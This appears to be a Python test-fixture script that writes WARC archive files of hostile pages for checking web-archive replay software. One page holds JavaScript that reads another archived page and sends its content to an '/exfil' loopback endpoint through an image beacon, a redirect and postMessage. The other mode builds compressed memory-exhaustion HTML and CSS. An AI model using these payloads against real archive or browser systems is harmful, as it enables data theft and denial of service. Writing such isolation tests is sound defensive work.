"""Writes an archive of hostile pages:

hostile.py FILE.warc PORT       which send out what they find, to a live web at this port of loopback
hostile.py FILE.warc greedy N   which want memory, N of them
"""
import gzip
import hashlib
import sys


def capture(url, media, body, head=b""):
    http = b"HTTP/1.1 200 OK\r\nContent-Type: " + media.encode() + b"\r\n" + head + b"\r\n" + body
    return (
        "WARC/1.1\r\nWARC-Type: response\r\nWARC-Target-URI: %s\r\nWARC-Date: 2026-03-14T12:00:00Z\r\n"
        "WARC-Record-ID: <urn:uuid:%s>\r\nContent-Type: application/http;msgtype=response\r\nContent-Length: %d\r\n\r\n"
        % (url, hashlib.md5(url.encode()).hexdigest(), len(http))
    ).encode() + http + b"\r\n\r\n"


EVIL = """<!doctype html><title>evil</title><meta http-equiv=refresh content="1;url=http://127.0.0.1:PORT/refresh">
<img src="http://127.0.0.1:PORT/img"><link rel=stylesheet href="http://127.0.0.1:PORT/css"><script>
(async () => {
  const read = async (path) => { try { return await (await fetch(path)).text(); } catch (e) { return "" + e; } };
  const found = await read("/timemap/link/http://secret.test/") + await read("/web/2026id_/http://secret.test/") + await read("/");
  for (const other of [window.opener, parent]) if (other && other !== self) other.postMessage(found, "*");
  new Image().src = "http://127.0.0.1:PORT/image?" + encodeURIComponent(found);
  location = "http://127.0.0.1:PORT/exfil?" + encodeURIComponent(found);
})()</script>"""

BIG = 12 << 20
GREEDY = [
    ("text/html", b"<p title='" + b"x" * BIG + b"'>"),
    ("text/html", b"<img srcset='" + b"http:a 1x," * (BIG // 10) + b"'>"),
    ("text/html", b"<base href='http://h.test/" + b"x" * 2000 + b"/'><img srcset='" + b"http:a 1x," * 22000 + b"'>"),
    ("text/html", b"<style>" + b"url(http:a)" * (BIG // 11) + b"</style>"),
    ("text/html", b"<noscript>" * (BIG // 10)),
    ("text/html", b"<iframe srcdoc='" + b"&lt;a href=http:/x>" * (BIG // 14) + b"'>"),
    ("text/html; charset=utf-16le", b"<\0a\0>\0" * (BIG // 6)),
    ("text/css", b"url(http:a)" * (BIG // 11)),
]

if __name__ == "__main__":
    if sys.argv[2] == "greedy":
        coded = [(media, gzip.compress(body, 1)) for media, body in GREEDY]
        with open(sys.argv[1], "wb") as out:
            for i in range(int(sys.argv[3])):
                media, body = coded[i % len(coded)]
                out.write(capture("http://greedy.test/%d" % i, media, body, b"Content-Encoding: gzip\r\n"))
        sys.exit()
    with open(sys.argv[1], "wb") as out:
        out.write(capture("http://evil.test/", "text/html", EVIL.replace("PORT", sys.argv[2]).encode()))
        out.write(capture("http://secret.test/", "text/html", b"<title>secret</title>SECRET"))
